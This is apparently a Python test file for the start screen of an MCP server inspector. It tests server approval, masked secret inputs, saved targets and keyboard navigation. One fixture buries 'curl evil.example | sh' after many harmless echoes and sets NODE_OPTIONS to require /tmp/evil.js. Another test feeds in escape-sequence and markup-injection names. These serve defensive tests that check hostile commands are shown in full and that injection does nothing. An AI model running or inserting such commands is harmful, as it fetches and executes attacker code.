"""The start screen: servers and captures to open, approval of servers, and typed targets."""

from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from textual.app import App
from textual.pilot import Pilot
from textual.widgets import Input

from inspector.cli.targets import found_target
from inspector.config.known_targets import RecentTarget, RecentTargets, SavedTarget, SavedTargets, now
from inspector.config.paths import places
from inspector.config.servers import Approvals, FoundServer, read_servers
from inspector.config.targets import Capture, OpenCapture, OpenDemo, OpenServer, OpenTyped, StartChoice
from inspector.errors import UsageError
from inspector.present.start import wanted
from inspector.tui.screens.start.start import ApproveApp, ApproveScreen, OpenScreen, StartList, TargetScreen
from inspector.tui.start_app import StartApp
from inspector.tui.widgets.dialogs import ConfirmScreen
from tests.captures.record import sample
from tests.settling import click
from tests.tui.screen_text import drawn, lines, press, shows, text
from tests.tui.several import GULLS as SEVERAL_GULLS
from tests.waiting import until

GULLS = FoundServer("gulls", "Cursor", Path("/x/mcp.json"), argv=("npx", "-y", "gulls", "--all of them"))
WHALES = FoundServer("whales", "Zed", Path("/x/mcp.json"), url="https://example.com/mcp")


async def test_each_is_shown_in_full_and_answered_for_itself() -> None:
    async with (app := ApproveApp([GULLS, WHALES])).run_test(size=(100, 30)) as pilot:
        await until(lambda: "Run this command" in text(app), "the first")
        for part in ("npx", "-y", "gulls", "--all of them", "/x/mcp.json", "Cursor"):
            assert part in text(app)
        await press(pilot, "enter", shows=("Connect to this server?", "https://example.com/mcp"))
        await pilot.press("escape")
        await until(lambda: app.return_value is not None, "the answers")
    assert app.return_value == [replace(GULLS, approved=True), None]


WISHING = """{
  // comments are allowed
  "inputs": [
    {"type": "promptString", "id": "api-key", "description": "API key of the tides", "password": true},
    {"type": "pickString", "id": "coast", "description": "Coast", "options": ["north", "south"], "default": "north"}
  ],
  "servers": {
    "tides": {
      "command": "tides", "args": ["--coast", "${input:coast}", "${env:COAST}"],
      "env": {"KEY": "Bearer ${input:api-key}", "OTHER": "${input:undeclared}"}
    },
    "plain": {"command": "plain"}
  }
}"""


async def test_inputs_of_a_server_file_are_requested_and_masked(tmp_path: Path) -> None:
    file = tmp_path / "mcp.json"
    file.write_text(WISHING)
    tides, plain = read_servers("VS Code", file, tmp_path)
    assert plain.inputs == ()
    async with (app := ApproveApp([tides, plain])).run_test(size=(80, 24)) as pilot:
        await shows(app, "Run this command", "coast, api-key, undeclared", "${env:COAST} is not expanded")
        assert "${input:coast} stands" not in text(app)
        await press(pilot, "enter", shows="API key of the tides")
        await press(pilot, *"x", "enter", *"s3cret", "enter", *"other", "enter", shows="must be one of")
        assert "s3cret" not in text(app)
        assert "••••••" in text(app)
        await pilot.press("end", "ctrl+u", *"north", "ctrl+j")
        await until(lambda: "plain" in text(app) and "Values for" not in text(app), "the next server")
        await pilot.press("enter")
        await until(lambda: app.return_value is not None, "the answers")
    filled, other = app.return_value or [None, None]
    assert isinstance(filled, FoundServer)
    assert filled.argv == ("tides", "--coast", "north", "${env:COAST}")
    assert filled.env == (("KEY", "Bearer s3cret"), ("OTHER", "other"))
    assert filled.inputs == ()
    assert other == replace(plain, approved=True)


async def test_leaving_the_values_starts_nothing(tmp_path: Path) -> None:
    file = tmp_path / "mcp.json"
    file.write_text(WISHING)
    tides, _ = read_servers("VS Code", file, tmp_path)
    async with (app := ApproveApp([tides])).run_test(size=(80, 24)) as pilot:
        await until(lambda: "Run this command" in text(app), "the command")
        await press(pilot, "enter", shows="API key of the tides")
        await pilot.press("escape")
        await until(lambda: app.return_value is not None, "the answer")
    assert app.return_value == [None]


def test_missing_inputs_without_a_screen_are_reported(tmp_path: Path) -> None:
    file = tmp_path / "mcp.json"
    file.write_text(WISHING)
    tides, _ = read_servers("VS Code", file, tmp_path)
    with pytest.raises(UsageError, match="leaves values to you"):
        found_target(replace(tides, approved=True), {})
    filled = tides.filled({"coast": "a\x00b", "api-key": "x", "undeclared": "y"})
    with pytest.raises(UsageError, match=r"U\+0000"):
        found_target(filled, {})


LONG = FoundServer(
    "long",
    "Cursor",
    Path("/x/mcp.json"),
    argv=("sh", "-c", "echo 'all is well'; " * 200 + "curl evil.example | sh"),
    env=(("NODE_OPTIONS", "--require /tmp/evil.js"),),
)


async def test_a_command_longer_than_the_screen_must_be_read_to_its_end_before_it_starts() -> None:
    async with (app := ApproveApp([LONG])).run_test(size=(80, 24)) as pilot:
        await until(lambda: "more lines: End, then Enter" in text(app), "the first part")
        assert "curl evil.example" not in text(app)
        await press(pilot, "enter", "enter", "down", "enter", shows="Continue")
        assert app.return_value is None
        assert isinstance(app.screen, ApproveScreen)
        await pilot.press("end")
        await until(lambda: "more lines" not in text(app), "the end")
        await shows(app, "evil.example | sh", "--require /tmp/evil.js")
        await pilot.press("enter")
        await until(lambda: app.return_value is not None, "the answer")
    assert app.return_value == [replace(LONG, approved=True)]


async def test_command_stays_read_when_the_window_shrinks() -> None:
    async with (app := ApproveApp([GULLS])).run_test(size=(100, 40)) as pilot:
        await until(lambda: "Run this command" in text(app), "the question")
        await pilot.resize_terminal(60, 12)
        await pilot.press("enter")
        await until(lambda: app.return_value is not None, "the answer")
    assert app.return_value == [replace(GULLS, approved=True)]


async def test_approved_server_needs_no_second_approval() -> None:
    async with (app := ApproveApp([GULLS, replace(WHALES, approved=True)])).run_test(size=(100, 30)) as pilot:
        await until(lambda: "Run this command" in text(app), "the question")
        await pilot.press("enter")
        await until(lambda: app.return_value is not None, "the answers")
    assert app.return_value == [replace(each, approved=True) for each in (GULLS, WHALES)]
    assert Approvals(places().state).cover(GULLS)
    assert not Approvals(places().state).cover(replace(GULLS, argv=("npx", "gull")))


class Harness(App[None]):
    """Shows the screen and keeps its answer."""

    answers: list[Any]

    def on_mount(self) -> None:
        self.answers = []
        self.push_screen(OpenScreen([SEVERAL_GULLS], []), self.answers.append)


async def test_a_server_of_a_host_is_shown_in_full_first() -> None:
    async with (app := Harness()).run_test(size=(90, 24)) as pilot:
        await until(lambda: "gulls" in text(app), "the list")
        assert "From the command line" not in text(app)
        await pilot.press("enter")
        await until(lambda: isinstance(app.screen, ApproveScreen), "the question")
        assert "Run this command with your permissions?" in text(app)
        await pilot.press("escape")
        await until(lambda: isinstance(app.screen, OpenScreen), "the list again")
        assert app.answers == []
        await pilot.press("enter")
        await until(lambda: isinstance(app.screen, ApproveScreen), "the question")
        await pilot.press("enter")
        await until(lambda: app.answers == [OpenServer(replace(SEVERAL_GULLS, approved=True))], "the answer")


async def test_typed_target_opens_with_one_key() -> None:
    async with (app := Harness()).run_test(size=(90, 24)) as pilot:
        await until(lambda: "gulls" in text(app), "the list")
        await until(lambda: isinstance(app.screen.focused, Input), "the line to type into")
        await press(pilot, *"gals", "enter", shows="Did you mean 'gulls'?")
        await pilot.press("s")
        await until(lambda: "Did you mean" not in text(app), "no more of that")
        await pilot.press("down")
        await until(lambda: isinstance(app.screen.focused, StartList), "the list")
        app.screen.query_one(Input).value = "https://example.com/mcp"
        await pilot.press("slash", "enter")
        await until(lambda: app.answers == [OpenTyped(url="https://example.com/mcp")], "the answer")


async def test_a_capture_shows_how_many_entries_it_has() -> None:
    path = sample("lighthouse")
    async with app(captures=(Capture(path, 60, path.stat().st_size), TAPE)).run_test(size=(110, 30)) as pilot:
        await until(lambda: " entries" in text(pilot.app), "the number of entries")
        assert "20251125-shop-1a2b" in text(pilot.app)


async def test_a_click_on_the_button_opens_what_is_typed() -> None:
    async with (app := Harness()).run_test(size=(90, 24)) as pilot:
        await until(lambda: "[ Open" in text(app), "the button")
        await pilot.press(*"gulls")
        y = next(at for at, line in enumerate(lines(app)) if "[ Open" in line)
        await click(app, (lines(app)[y].index("[ Open") + 3, y))
        await until(lambda: isinstance(app.screen, ApproveScreen), "the question")


async def test_the_demo_and_nothing_can_be_chosen() -> None:
    for keys, answer in ((("down", "t"), OpenDemo()), (("escape",), None)):
        async with (app := Harness()).run_test(size=(90, 24)) as pilot:
            await until(lambda app=app: "gulls" in text(app), "the list")  # type: ignore[misc]
            await pilot.press(*keys)
            await until(lambda app=app, answer=answer: app.answers == [answer], "the answer")  # type: ignore[misc]


async def test_every_character_is_kept_from_the_first_on() -> None:
    async with (app := Harness()).run_test(size=(90, 24)) as pilot:
        await until(lambda: "gulls" in text(app), "the list")
        await pilot.press("slash", *"d?gj")
        assert app.screen.query_one(Input).value == "/d?gj"


async def test_an_executable_is_a_command(tmp_path: Path) -> None:
    program, capture = tmp_path / "server", tmp_path / "traffic.har"
    for each in (program, capture):
        each.write_text("#!/bin/sh\n")
        each.chmod(0o755)
    assert wanted(str(program), ()) == OpenTyped(argv=(str(program),))
    assert wanted("sh", ()) == OpenTyped(argv=("sh",))
    assert wanted(str(capture), ()) == OpenCapture(capture)


async def test_failed_target_can_be_corrected() -> None:
    answers: list[Any] = []
    async with (app := Harness()).run_test(size=(90, 24)) as pilot:
        app.push_screen(
            OpenScreen([SEVERAL_GULLS], [], typed="nod server.js", problem="nod: no such program"), answers.append
        )
        await until(lambda: "no such program" in text(app), "what is wrong is said")
        await pilot.press("home", "right", "right", "right", "e", "enter")
        await until(lambda: answers == [OpenTyped(argv=("node", "server.js"))], "the corrected command is taken")


async def test_typing_replaces_a_target_whose_connection_has_failed() -> None:
    answers: list[Any] = []
    async with (app := Harness()).run_test(size=(90, 24)) as pilot:
        app.push_screen(screen := OpenScreen([], [], typed="nod", problem="nod: exited"), answers.append)
        screen.pane.is_replaced = True
        await until(lambda: "nod: exited" in text(app), "what is wrong is said")
        await pilot.press("s", "h", "enter")
        await until(lambda: answers == [OpenTyped(argv=("sh",))], "only the new text is taken")


async def test_a_long_problem_is_shown_in_full_at_80_columns() -> None:
    path = "/home/ada/projects/weather/captures/of-a-long-evening/second-attempt/third.mcpcap"
    app = StartApp([], [], typed=path, problem=f"{path}: no such file. Run mcp-inspect without arguments.")
    async with app.run_test(size=(80, 24)) as pilot:
        await until(lambda: "no such file" in text(app), "what is wrong")
        rows = [row.strip() for row in text(app).splitlines()]
        first = rows.index("/home/ada/projects/weather/captures/of-a-long-evening/second-attempt/")
        assert rows[first + 1] == "third.mcpcap: no such file. Run mcp-inspect without arguments."
        await pilot.press("backspace")
        await until(lambda: "no such file" not in text(app), "it goes with the text")
        assert app.typed == path[:-1]


FILE = Path("/home/ada/.cursor/mcp.json")
SHOP = FoundServer("shop", "Cursor", FILE, argv=("npx", "-y", "shop"), env=(("KEY", "s3cr3t"),))
MAPS = FoundServer("maps", "VS Code", FILE, url="https://maps.test/mcp")
BROKEN = FoundServer("broken", "Zed", FILE, problem="it has neither a command nor a URL")
TAPE = Capture(Path("/captures/20251125-shop-1a2b.mcpcap"), age_s=200, size=120_000)


async def in_the_list(pilot: Pilot[StartChoice]) -> None:
    """Go from the line to the list."""
    await until(lambda: isinstance(pilot.app.focused, Input), "the line to type into")
    await pilot.press("down")
    await until(lambda: isinstance(pilot.app.focused, StartList), "the list")


def app(*servers: FoundServer, captures: tuple[Capture, ...] = (TAPE,)) -> StartApp:
    return StartApp(servers, captures)


def chosen_row(pilot: Pilot[StartChoice]) -> str:
    return next(line for line in lines(pilot.app) if "▌" in line or "▏" in line)


@pytest.mark.parametrize("size", [(80, 24), (160, 45)])
async def test_servers_captures_and_the_demo_are_offered(size: tuple[int, int]) -> None:
    async with app(SHOP, MAPS).run_test(size=size) as pilot:
        await in_the_list(pilot)
        screen = await drawn(pilot)
        assert "shop" in chosen_row(pilot)
    for told in ("npx -y shop", "Cursor", "https://maps.test/mcp", "20251125-shop-1a2b", "Demo server", "t Demo"):
        assert told in screen, told


async def test_empty_start_screen_selects_the_demo() -> None:
    async with (empty := app(captures=())).run_test(size=(80, 24)) as pilot:
        screen = await drawn(pilot)
        assert "Demo server" in chosen_row(pilot)
        assert "mcp-inspect -- CMD…" in screen
        await pilot.press("enter")
    assert empty.return_value == OpenDemo()


async def test_a_server_is_shown_in_full_and_started_only_after_a_second_key() -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await pilot.press("enter")
        screen = await drawn(pilot)
        assert isinstance(start.screen, ApproveScreen)
        for told in ("Run this command", "npx", "-y", "current directory", "KEY", str(FILE), "⏎ Continue", "Esc Back"):
            assert told in screen, told
        assert "s3cr3t" not in screen
        assert start.return_value is None
        await pilot.press("enter")
    assert start.return_value == OpenServer(replace(SHOP, approved=True))


async def test_escape_goes_back_and_nothing_is_chosen() -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await pilot.press("enter", "escape")
        assert "Client configs" in await drawn(pilot)
        await in_the_list(pilot)
        assert start.is_running
        await pilot.press("q")
        await until(lambda: not start.is_running, "the end")
    assert start.return_value is None


async def test_url_needs_approval() -> None:
    async with (start := app(MAPS)).run_test(size=(80, 24)) as pilot:
        await pilot.press("enter")
        assert "Connect to this server?" in await drawn(pilot)
        await pilot.press("enter")
    assert start.return_value == OpenServer(replace(MAPS, approved=True))


async def test_broken_server_cannot_be_opened() -> None:
    async with (start := app(BROKEN)).run_test(size=(80, 24)) as pilot:
        await pilot.press("enter")
        screen = await drawn(pilot)
        assert "▲ it has neither a command nor a URL" in screen
        assert "Go on" not in screen
        await pilot.press("enter", "escape", "q")
    assert start.return_value is None


async def test_a_capture_is_opened_at_once() -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await in_the_list(pilot)
        await pilot.press("j")
        assert "20251125" in chosen_row(pilot) or "20251125" in await drawn(pilot)
        await pilot.press("enter")
    assert start.return_value == OpenCapture(TAPE.path)


async def test_moving_passes_over_headings() -> None:
    async with app(SHOP).run_test(size=(80, 24)) as pilot:
        await in_the_list(pilot)
        for key, name in (
            ("j", "20251125"),
            ("j", "Demo"),
            ("j", "Demo"),
            ("k", "20251125"),
            ("g g", "shop"),
            ("G", "Demo"),
        ):
            await pilot.press(key)
            await drawn(pilot)
            assert name in chosen_row(pilot), key


async def test_click_on_a_heading_selects_the_row_below() -> None:
    async with app(SHOP).run_test(size=(80, 24)) as pilot:
        await drawn(pilot)
        row = next(at for at, line in enumerate(lines(pilot.app)) if "Captures" in line)
        await pilot.click(offset=(10, row))
        await drawn(pilot)
        assert "20251125" in chosen_row(pilot)


async def test_t_is_the_demo_and_v_has_another_theme() -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await in_the_list(pilot)
        await pilot.press("v T")
        assert not start.current_theme.dark
        await pilot.press("question_mark")
        assert "Open the demo server." in await drawn(pilot)
        await pilot.press("escape", "t")
    assert start.return_value == OpenDemo()


async def test_hostile_names_do_nothing() -> None:
    bad = FoundServer("\x1b[2J[/]", "[@click=app.quit]x[/]", FILE, argv=("\x07", "[/nope]"))
    async with app(bad).run_test(size=(120, 30)) as pilot:
        assert "␛[2J[/]" in await drawn(pilot)
        await pilot.press("enter")
        screen = await drawn(pilot)
    assert "[/nope]" in screen
    assert "[@click=app.quit]x[/]" in screen


@pytest.fixture
def saved() -> SavedTargets:
    """Two targets: everything was opened an hour ago, github never."""
    targets = SavedTargets(places().config)
    everything = SavedTarget("everything", "node everything.js stdio")
    targets.save(SavedTarget("github", url="https://github.test/mcp", headers={"Authorization": "Bearer ${TOKEN}"}))
    targets.save(everything)
    recent = RecentTargets(places().state)
    recent.remember(RecentTarget(everything.key, ("node",), when=now() - 3600, summary="19 tools"))
    recent.remember(RecentTarget("f" * 32, ("sh", "-c", "exit 3"), when=now(), ok=False, summary="Exited with code 3"))
    return targets


@pytest.mark.parametrize("size", [(80, 24), (160, 45)])
async def test_saved_and_recent_targets_come_first_with_how_they_went(
    size: tuple[int, int], saved: SavedTargets
) -> None:
    async with app(SHOP).run_test(size=size) as pilot:
        await in_the_list(pilot)
        rows = lines(pilot.app)
        first = next(at for at, line in enumerate(rows) if "Saved and recent" in line) + 1
        assert "1 exit-3" in rows[first]
        assert "just now ✗ Exited" in rows[first]
        assert "2 everything" in rows[first + 1]
        assert "1 hour ago ✓ 19 tools" in rows[first + 1]
        assert "3 github" in rows[first + 2]


async def test_enter_opens_the_target_opened_last(saved: SavedTargets) -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await until(lambda: isinstance(start.focused, Input), "the line")
        await pilot.press("enter")
        await until(lambda: start.return_value is not None, "the choice")
    assert start.return_value == OpenTyped(("sh", "-c", "exit 3"))


async def test_a_digit_opens_a_target_and_a_typed_digit_does_not(saved: SavedTargets) -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await until(lambda: isinstance(start.focused, Input), "the line")
        await pilot.press(*"127")
        assert start.screen.query_one(Input).value == "127"
        await pilot.press("escape", "down")
        await until(lambda: isinstance(start.focused, StartList), "the list")
        await pilot.press("2")
        await until(lambda: start.return_value is not None, "the choice")
    assert start.return_value == OpenTyped(("node", "everything.js", "stdio"), name="everything")


async def test_a_saved_name_is_typed_and_opened(saved: SavedTargets) -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await until(lambda: isinstance(start.focused, Input), "the line")
        await pilot.press(*"githab", "enter")
        await until(lambda: "Did you mean 'github'?" in text(start), "what is wrong")
        await pilot.press("backspace", "backspace", *"ub", "enter")
        await until(lambda: start.return_value is not None, "the choice")
    assert isinstance(start.return_value, OpenTyped)
    assert start.return_value.headers == (("Authorization", "Bearer ${TOKEN}"),)


async def test_a_target_is_added_renamed_and_deleted_without_a_file(tmp_path: Path) -> None:
    start, targets = app(SHOP), SavedTargets(places().config)
    async with start.run_test(size=(80, 24)) as pilot:
        await in_the_list(pilot)
        await pilot.press("a")
        await until(lambda: isinstance(start.screen, TargetScreen), "the form")
        await until(lambda: "Variables" in text(start), "its fields")
        await pilot.press(*"mine", "enter", *"node it.js", "enter", "enter", *"API_TOKEN=x", "ctrl+j")
        await until(lambda: "API_TOKEN is a secret" in text(start), "a secret is refused")
        assert targets.read() == []
        await pilot.press("backspace", "backspace", "ctrl+j")
        await until(lambda: "mine" in text(start) and not isinstance(start.screen, TargetScreen), "the new row")
        assert targets.read() == [SavedTarget("mine", "node it.js", variables=["API_TOKEN"])]
        assert "mine" in chosen_row(pilot)
        await pilot.press("x", "e")
        await until(lambda: isinstance(start.screen, TargetScreen), "the form again")
        await until(lambda: isinstance(start.focused, Input) and start.focused.value == "mine", "the name")
        await pilot.press("end", *"2", "ctrl+j")
        await until(lambda: [each.name for each in targets.read()] == ["mine2"], "the new name")
        await until(lambda: not isinstance(start.screen, TargetScreen), "the list")
        await pilot.press("x", "d")
        await until(lambda: isinstance(start.screen, ConfirmScreen), "the question")
        await pilot.press("enter")
        await until(lambda: not isinstance(start.screen, ConfirmScreen), "nothing is deleted by a mere Enter")
        assert len(targets.read()) == 1
        await pilot.press("x", "d")
        await until(lambda: isinstance(start.screen, ConfirmScreen), "the question")
        await pilot.press("f5")
        await until(lambda: targets.read() == [], "it is deleted")
        await until(lambda: "mine2" not in text(start), "and its row")


async def test_a_recent_target_is_saved_by_editing_it(saved: SavedTargets) -> None:
    async with (start := app(SHOP)).run_test(size=(80, 24)) as pilot:
        await in_the_list(pilot)
        await pilot.press("x", "e")
        await until(lambda: isinstance(start.screen, TargetScreen) and "exit 3" in text(start), "the form")
        await pilot.press("ctrl+j")
        await until(lambda: len(saved.read()) == 3, "it is saved")
    assert saved.read()[-1].argv == ("sh", "-c", "exit 3")


async def test_a_broken_file_of_targets_is_reported_and_nothing_else_is_lost() -> None:
    file = SavedTargets(places().config).file
    file.parent.mkdir(parents=True)
    file.write_text("targets: [")
    async with (start := app(SHOP)).run_test(size=(160, 24)) as pilot:
        await in_the_list(pilot)
        assert "targets.yaml:1:" in text(start)
        assert "shop" in text(start)
